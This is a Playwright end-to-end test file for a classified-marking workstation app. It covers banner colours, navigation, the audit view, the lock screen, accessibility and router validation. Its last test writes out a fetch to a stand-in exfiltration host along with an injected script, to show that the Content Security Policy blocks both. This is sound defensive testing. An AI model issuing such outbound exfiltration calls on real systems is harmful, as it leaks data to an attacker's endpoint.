import path from 'node:path';
import AxeBuilder from '@axe-core/playwright';
import { expect, SCREENSHOTS, test } from './harness';
import { DESK_API_METHODS } from '../support/desk-api';

const BANNER_COLOURS: readonly [string, string, string, string][] = [
  // marking, expected level, background, text colour
  ['UNCLASSIFIED', 'UNCLASSIFIED', 'rgb(0, 122, 51)', 'rgb(255, 255, 255)'],
  ['CUI', 'CUI', 'rgb(80, 43, 133)', 'rgb(255, 255, 255)'],
  ['CONFIDENTIAL', 'CONFIDENTIAL', 'rgb(0, 51, 160)', 'rgb(255, 255, 255)'],
  ['SECRET//NOFORN', 'SECRET', 'rgb(200, 16, 46)', 'rgb(255, 255, 255)'],
  ['TOP SECRET//NOFORN', 'TOP SECRET', 'rgb(255, 140, 0)', 'rgb(0, 0, 0)'],
  ['TOP SECRET//SI//NOFORN', 'TS/SCI', 'rgb(252, 232, 58)', 'rgb(0, 0, 0)'],
];

test('shows the red SECRET banner top and bottom and the navigation', async ({ page, desk }) => {
  await desk.open('SECRET//NOFORN');
  const banners = page.getByRole('note', { name: 'Classification: SECRET//NOFORN' });
  await expect(banners).toHaveCount(2);
  const viewport = page.viewportSize();
  const top = await banners.first().boundingBox();
  const bottom = await banners.last().boundingBox();
  expect(top?.y).toBe(0);
  expect((bottom?.y ?? 0) + (bottom?.height ?? 0)).toBeCloseTo(viewport?.height ?? 0, 0);
  for (const banner of await banners.all()) {
    await expect(banner).toHaveText('SECRET//NOFORN');
    await expect(banner).toHaveCSS('background-color', 'rgb(200, 16, 46)');
    await expect(banner).toHaveCSS('color', 'rgb(255, 255, 255)');
  }
  const nav = page.getByRole('navigation', { name: 'Primary' });
  for (const label of ['Inbox', 'Models', 'Decisions', 'Audit', 'Settings']) {
    await expect(nav.getByRole('button', { name: label })).toBeVisible();
  }
  await expect(nav.getByRole('button', { name: 'Inbox' })).toHaveAttribute('aria-current', 'page');
  await expect(page.getByRole('heading', { name: 'No result bundles yet' })).toBeVisible();
  await page.screenshot({ path: path.join(SCREENSHOTS, 'inbox.png') });
});

for (const [marking, level, background, colour] of BANNER_COLOURS) {
  test(`colours the ${level} banner in its standard colour`, async ({ page, desk }) => {
    await desk.open(marking);
    const banners = page.getByRole('note', { name: `Classification: ${marking}` });
    await expect(banners).toHaveCount(2);
    for (const banner of await banners.all()) {
      await expect(banner).toHaveAttribute('data-level', level);
      await expect(banner).toHaveCSS('background-color', background);
      await expect(banner).toHaveCSS('color', colour);
    }
  });
}

test('every view says what it is for and what to do next', async ({ page, desk }) => {
  await desk.open();
  const nav = page.getByRole('navigation', { name: 'Primary' });
  const expectations: [string, RegExp][] = [
    ['Models', /No models yet/],
    ['Decisions', /No designation decisions yet/],
    ['Inbox', /No result bundles yet/],
  ];
  for (const [view, heading] of expectations) {
    await nav.getByRole('button', { name: view }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(view);
    await expect(page.getByRole('heading', { name: heading })).toBeVisible();
  }
});

test('the audit view reads the real audit log through the router', async ({ page, desk }) => {
  await desk.open('SECRET//NOFORN');
  await page
    .getByRole('navigation', { name: 'Primary' })
    .getByRole('button', { name: 'Audit' })
    .click();
  const table = page.getByRole('table', { name: 'Audit log' });
  await expect(table.getByRole('row')).toHaveCount(2);
  await expect(table.getByRole('row').nth(1)).toContainText('workstation.initialised');
  await expect(table.getByRole('row').nth(1)).toContainText('2026-11-22 09:30:00Z');
  await expect(table.getByRole('row').nth(1)).toContainText(
    'Workstation initialised with classification SECRET//NOFORN.',
  );
  await page.screenshot({ path: path.join(SCREENSHOTS, 'audit.png') });
});

test('settings show the marking and the workstation', async ({ page, desk }) => {
  await desk.open('TOP SECRET//SI//NOFORN');
  await page.getByRole('button', { name: 'Settings' }).click();
  const marking = page.getByRole('region', { name: 'Classification marking' });
  await expect(marking).toContainText('TOP SECRET//SI//NOFORN');
  await expect(marking).toContainText('TS/SCI');
  await expect(page.getByRole('region', { name: 'Workstation' })).toContainText(
    '2026-11-22T09:30:00.000Z',
  );
  await page.screenshot({ path: path.join(SCREENSHOTS, 'settings-ts-sci.png') });
});

test('the lock screen is reachable and explains that no identity is enrolled', async ({
  page,
  desk,
}) => {
  await desk.open();
  await page.getByRole('button', { name: 'Unlock' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Unlock');
  await expect(page.getByLabel('Identity')).toBeDisabled();
  await expect(page.getByLabel('Passphrase')).toBeDisabled();
  await expect(page.getByText('No identity is enrolled on this workstation.')).toBeVisible();
  await page.screenshot({ path: path.join(SCREENSHOTS, 'lock.png') });
  await page.getByRole('button', { name: 'Back' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Inbox');
});

test('keyboard: skip link first, then the navigation in order; focus follows the view', async ({
  page,
  desk,
}) => {
  await desk.open();
  await page.keyboard.press('Tab');
  await expect(page.getByRole('link', { name: 'Skip to content' })).toBeFocused();
  for (const label of ['Inbox', 'Models', 'Decisions', 'Audit', 'Settings', 'Unlock']) {
    await page.keyboard.press('Tab');
    await expect(page.getByRole('button', { name: label })).toBeFocused();
  }
  await page.getByRole('button', { name: 'Decisions' }).focus();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('heading', { level: 1, name: 'Decisions' })).toBeFocused();
});

test('has no detectable accessibility violations (axe) on any view', async ({ page, desk }) => {
  await desk.open();
  for (const view of ['Inbox', 'Models', 'Decisions', 'Audit', 'Settings', 'Unlock']) {
    await page.getByRole('button', { name: view }).click();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const results = await new AxeBuilder({ page }).analyze();
    expect(results.violations.map((v) => `${view}: ${v.id} ${v.help}`)).toEqual([]);
  }
});

test('the router rejects bad arguments from the page with the error shape', async ({
  page,
  desk,
}) => {
  await desk.open();
  const result = await page.evaluate(() =>
    (window.desk.listAuditEvents as (r: unknown) => Promise<unknown>)({
      limit: -1,
      beforeSeq: null,
    }),
  );
  expect(result).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT' } });
  expect(JSON.stringify(result)).toMatch(/Invalid arguments for listAuditEvents at \\"limit\\"/);
  const methods = await page.evaluate(() => Object.keys(window.desk).sort());
  expect(methods).toEqual([...DESK_API_METHODS]);
});

test('the CSP stops the page from reaching out or running injected script', async ({
  page,
  desk,
}) => {
  await desk.open();
  desk.expectConsoleErrors(/Content Security Policy/);
  const fetchOutcome = await page.evaluate(async () => {
    try {
      // Deliberate: proves the CSP blocks it before any request exists.
      // eslint-disable-next-line no-restricted-syntax
      await window.fetch('https://exfiltrate.invalid/collect');
      return 'sent';
    } catch (error) {
      return String(error);
    }
  });
  expect(fetchOutcome).toMatch(/Failed to fetch|violates|Content Security Policy/i);
  const injected = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    document.body.append(script);
    return (window as unknown as { __injected?: boolean }).__injected ?? false;
  });
  expect(injected).toBe(false);
});
